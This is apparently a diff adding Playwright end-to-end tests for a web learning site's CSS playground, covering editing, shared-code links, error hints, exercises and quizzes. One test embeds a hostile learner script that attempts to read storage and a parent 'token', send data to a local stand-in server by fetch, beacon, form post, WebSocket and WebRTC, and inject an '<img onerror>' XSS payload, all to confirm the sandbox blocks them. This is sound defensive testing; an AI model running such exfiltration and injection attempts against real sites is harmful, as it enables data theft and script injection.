@@ -1,0 +1,210 @@
+import { createSocket } from 'node:dgram';
+import { createServer } from 'node:net';
+import type { AddressInfo } from 'node:net';
+import type { Frame, Locator, Page } from '@playwright/test';
+import { shareFragment } from '../../app/learn/playground/share-code.ts';
+import type { SourceFile } from '../../app/learn/lesson/lesson-parts-types.ts';
+import { alive, expect, test, type Site } from '../site.ts';
+import { arriveAs, readStorage } from './visitors.ts';
+
+const lesson = '/learning/css/css-designing/flexbox-layout';
+
+async function openLesson(page: Page, site: Site, fragment = ''): Promise<void> {
+  await arriveAs(page, site, 'verified member');
+  await page.goto(lesson + fragment);
+  await alive(page);
+}
+const example = (page: Page, name: string) => page.locator(`[data-example$="#${name}"]`);
+const editorOf = (part: Locator) => part.locator('.cm-content');
+const resultOf = (part: Locator) => part.frameLocator('.result-frame');
+
+/** The frame that shows a part's result, once its document is there. */
+async function frameOf(part: Locator): Promise<Frame> {
+  const handle = await part.locator('.result-frame').elementHandle();
+  const frame = await handle?.contentFrame();
+  if (!frame) throw new Error('no frame');
+  return frame;
+}
+
+test('a sample is edited in place, shows its result at once, survives a reload and can be reset', async ({ page, site }) => {
+  await openLesson(page, site);
+  const toolbar = example(page, 'toolbar');
+  await toolbar.scrollIntoViewIfNeeded();
+  await expect(resultOf(toolbar).getByText('Log out')).toBeVisible();
+  expect(await page.evaluate(() => performance.getEntriesByType('resource').filter(({ name }) => name.includes('create-editor')).length)).toBe(0);
+  await toolbar.getByRole('button', { name: 'Edit' }).click();
+  await expect(editorOf(toolbar)).toBeFocused();
+  await toolbar.getByText('HTML', { exact: true }).click();
+  await editorOf(toolbar).fill('<p>Chai at five</p>');
+  await expect(resultOf(toolbar).getByText('Chai at five')).toBeVisible();
+  await page.reload();
+  await alive(page);
+  await toolbar.getByRole('button', { name: 'Edit' }).click();
+  await expect(resultOf(toolbar).getByText('Chai at five')).toBeVisible();
+  await toolbar.getByRole('button', { name: 'Reset' }).click();
+  await expect(resultOf(toolbar).getByText('Log out')).toBeVisible();
+});
+
+test('Escape, then Tab leaves the editor; Done keeps what was written', async ({ page, site }) => {
+  await openLesson(page, site);
+  const toolbar = example(page, 'toolbar');
+  await toolbar.getByRole('button', { name: 'Edit' }).press('Enter');
+  const editor = editorOf(toolbar);
+  await expect(editor).toBeFocused();
+  await expect(editor).toHaveAccessibleDescription('Press Escape, then Tab, to leave the editor.');
+  await editor.fill('p { color: red; }');
+  await page.keyboard.press('Tab');
+  await expect(editor).toBeFocused();
+  await page.keyboard.press('Escape');
+  await page.keyboard.press('Tab');
+  await expect(editor).not.toBeFocused();
+  await toolbar.getByRole('button', { name: 'Done' }).click();
+  await expect(toolbar.locator('.file-code.is-shown')).toContainText('p { color: red; }');
+});
+
+test('an address shares the code; script in it waits; a broken one is told in a sentence', async ({ page, site }) => {
+  const fragment = await shareFragment('toolbar', [{ language: 'html', code: '<p id="x">Shared</p><script>x.textContent = "Ran";</script>' }]);
+  await openLesson(page, site, fragment);
+  const toolbar = example(page, 'toolbar');
+  await expect(toolbar.getByText('has not been run yet')).toBeVisible();
+  await toolbar.getByRole('button', { name: 'Run it' }).click();
+  await expect(resultOf(toolbar).getByText('Ran')).toBeVisible();
+  await page.goto(`${lesson}${fragment.slice(0, -9)}`);
+  await page.reload();
+  await alive(page);
+  await expect(example(page, 'toolbar').getByRole('alert')).toContainText('can’t be read');
+});
+
+test('a fault is explained with its line, and one press mends it', async ({ page, site }) => {
+  await openLesson(page, site, await shareFragment('toolbar', [{ language: 'css', code: '.toolbar {\n  dispaly: flex;\n}' }]));
+  const toolbar = example(page, 'toolbar');
+  const why = toolbar.getByRole('region', { name: 'Why doesn’t this work?' });
+  await expect(why.getByText('CSS line 2')).toBeVisible();
+  await why.getByRole('button', { name: 'Apply this line' }).click();
+  await expect(editorOf(toolbar)).toContainText('display: flex;');
+  await expect(why.getByRole('status')).toContainText('Nothing found');
+  await why.getByRole('button', { name: 'Pick an element' }).click();
+  await resultOf(toolbar).locator('.toolbar').dispatchEvent('click');
+  await expect(toolbar.locator('.cascade')).toContainText('display: flex');
+});
+
+test('an exercise fails, helps, passes and is recorded', async ({ page, site }) => {
+  await openLesson(page, site);
+  const exercise = page.locator('[data-exercise$="#far-end"]');
+  await exercise.getByRole('button', { name: 'Run checks' }).click();
+  await expect(exercise.getByText('Failed: Log out touches the end')).toBeVisible();
+  await expect(exercise.locator('.is-got').first()).toContainText(/px from the end of \.toolbar, at 360 px/);
+  await exercise.getByRole('button', { name: 'Hint 1 of 2' }).click();
+  await expect(exercise.getByText('takes all the free room')).toBeVisible();
+  await exercise.getByRole('button', { name: 'Edit' }).click();
+  await editorOf(exercise).fill('.toolbar { display: flex; gap: 12px; }\n.end { margin-left: auto; }');
+  await exercise.getByRole('button', { name: 'Run checks' }).click();
+  await expect(exercise.getByText('checks pass. Done.')).toBeVisible();
+  expect(JSON.stringify(await readStorage(page))).toContain('css/css-designing/flexbox-layout#far-end');
+});
+
+test('each option of a question answers, by keyboard too', async ({ page, site }) => {
+  await openLesson(page, site);
+  const question = page.locator('[data-question="flex-1"]');
+  const options = question.getByRole('button');
+  await options.first().focus();
+  await page.keyboard.press('Enter');
+  await expect(options.first()).toHaveAttribute('aria-pressed', 'true');
+  await expect(question.locator('.option-feedback:not(:empty)')).toHaveCount(1);
+});
+
+/** Everything a learner's script might try to get out; each leaves a word of what came of it. */
+const attempts = (elsewhere: string, udpPort: number) => `
+const results = {};
+const attempt = async (name, act) => {
+  try { results[name] = 'let through: ' + (await Promise.race([act(), new Promise((resolve) => setTimeout(() => resolve('nothing'), 1500))])); }
+  catch (error) { results[name] = 'refused: ' + error.name; }
+};
+const loads = (element, key, address) => new Promise((resolve, reject) => {
+  element.onload = () => resolve('loaded'); element.onerror = () => reject(new Error('refused')); element[key] = address; document.body.append(element);
+});
+(async () => {
+  await attempt('localStorage', () => localStorage.length);
+  await attempt('sessionStorage', () => sessionStorage.length);
+  await attempt('cookie', () => { document.cookie = 'a=1'; return document.cookie; });
+  await attempt('indexedDB', () => new Promise((resolve, reject) => { const open = indexedDB.open('x'); open.onsuccess = () => resolve('opened'); open.onerror = () => reject(open.error); }));
+  await attempt('parent', () => parent.document.title);
+  await attempt('parentStorage', () => parent.localStorage.token);
+  await attempt('nested', () => { const frame = document.createElement('iframe'); document.body.append(frame); return String(frame.contentWindow.RTCPeerConnection); });
+  await attempt('fetchSite', () => fetch('/health').then((answer) => answer.status));
+  await attempt('fetchElsewhere', () => fetch('${elsewhere}/fetch', { mode: 'no-cors' }).then(() => 'sent'));
+  await attempt('image', () => loads(new Image(), 'src', '${elsewhere}/image'));
+  await attempt('siteImage', () => loads(new Image(), 'src', '/generated/favicon.svg'));
+  await attempt('script', () => loads(document.createElement('script'), 'src', '${elsewhere}/script.js'));
+  await attempt('style', () => loads(Object.assign(document.createElement('link'), { rel: 'stylesheet' }), 'href', '${elsewhere}/style.css'));
+  await attempt('socket', () => new Promise((resolve, reject) => { const socket = new WebSocket('${elsewhere.replace('http', 'ws')}'); socket.onopen = () => resolve('open'); socket.onerror = () => reject(new Error('refused')); }));
+  await attempt('peer', async () => { const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); return 'asked'; });
+  await attempt('worker', () => new Promise((resolve, reject) => { const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = () => resolve('ran'); worker.onerror = () => reject(new Error('refused')); }));
+  await attempt('serviceWorker', () => navigator.serviceWorker.register('/sw.js').then(() => 'registered'));
+  await attempt('popup', () => { const opened = open('${elsewhere}/popup'); if (!opened) throw new Error('refused'); return 'opened'; });
+  await attempt('top', () => { top.location.href = '${elsewhere}/top'; return 'set'; });
+  navigator.sendBeacon('${elsewhere}/beacon');
+  const form = Object.assign(document.createElement('form'), { method: 'post', action: '${elsewhere}/form' });
+  document.body.append(form); form.submit();
+  for (let count = 0; count < 3000; count += 1) parent.postMessage({ kind: 'height', height: count % 700 }, '*');
+  parent.postMessage({ kind: 'picked', path: ['<img>'], name: '<img src=x onerror=alert(1)>' }, '*');
+  document.body.dataset.results = JSON.stringify(results);
+})();`;
+
+test.describe('what a learner types', () => {
+  test.use({ expectedErrors: [/./] });
+
+  test('reaches neither the site’s origin, storage nor pages, nor any other address', async ({ page, site }) => {
+    test.setTimeout(90_000);
+    const reached: string[] = [];
+    const server = createServer((socket) => { reached.push('a connection'); socket.on('data', (data) => reached.push(data.toString().split('\r\n')[0] ?? '')); socket.on('error', () => undefined); }).listen(0, '127.0.0.1');
+    const datagrams = createSocket('udp4').bind(0, '127.0.0.1');
+    datagrams.on('message', () => reached.push('a datagram'));
+    await new Promise<void>((resolve) => { datagrams.once('listening', () => resolve()); });
+    const elsewhere = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+    const files: SourceFile[] = [
+      { language: 'html', code: `<link rel="preconnect" href="${elsewhere}"><link rel="prefetch" href="${elsewhere}/prefetch"><p>Chai</p><img src="${elsewhere}/markup"><meta http-equiv="refresh" content="600;url=${elsewhere}/refresh"><script>${attempts(elsewhere, datagrams.address().port)}</script>` },
+      { language: 'css', code: `@import url(${elsewhere}/import.css); p { background: url(${elsewhere}/background); }` },
+    ];
+    await openLesson(page, site, await shareFragment('toolbar', files));
+    const before = await readStorage(page);
+    const siteRequests: string[] = [];
+    const toolbar = example(page, 'toolbar');
+    await page.evaluate(() => { Object.assign(window, { untouched: true }); });
+    page.on('requestfinished', (request) => { if (request.frame() !== page.mainFrame()) siteRequests.push(new URL(request.url()).pathname); });
+    await toolbar.getByRole('button', { name: 'Run it' }).click();
+    const body = resultOf(toolbar).locator('body[data-results]');
+    await expect(body).toBeAttached({ timeout: 40_000 });
+    const results: Record<string, string> = JSON.parse((await body.getAttribute('data-results')) ?? '{}');
+    for (const [name, word] of Object.entries(results)) expect(word, name).toMatch(/^refused|: nothing$/);
+    expect(Object.keys(results)).toHaveLength(19);
+    expect(reached, 'what came out').toEqual([]);
+    expect(siteRequests.filter((path) => path !== '/playground' && !path.startsWith('/results/')), 'what the site was asked').toEqual([]);
+    expect(await readStorage(page)).toEqual(before);
+    expect(page.url()).toContain(lesson);
+    expect(await page.evaluate(() => 'untouched' in window)).toBe(true);
+
+    const frame = await frameOf(toolbar);
+    for (const address of [`${elsewhere}/navigate?secret`, '/courses?secret', '/health']) {
+      await frame.evaluate((to) => { location.href = to; }, address).catch(() => undefined); // the frame may be gone before it answers
+      await page.waitForTimeout(300);
+    }
+    // The browser opens a line ahead of a navigation that the policy then refuses; nothing is said on it.
+    expect(reached.filter((what) => what !== 'a connection'), 'what navigation reached').toEqual([]);
+    expect(siteRequests.filter((path) => path === '/courses' || path === '/health')).toEqual([]);
+    server.close();
+    datagrams.close();
+  });
+
+  test('that does not come to an end can be stopped, and is not started again by itself', async ({ page, site }) => {
+    await openLesson(page, site, await shareFragment('toolbar', [{ language: 'html', code: '<p>Round</p><script>while (true);</script>' }]));
+    const toolbar = example(page, 'toolbar');
+    await toolbar.getByRole('button', { name: 'Run it' }).click();
+    await toolbar.getByRole('button', { name: 'Stop it' }).click({ timeout: 15_000 });
+    await expect(toolbar.getByText('Stopped;')).toBeVisible();
+    await page.goto(lesson);
+    await alive(page);
+    await toolbar.getByRole('button', { name: 'Edit' }).click();
+    await expect(toolbar.getByText('did not come to an end')).toBeVisible();
+  });
+});
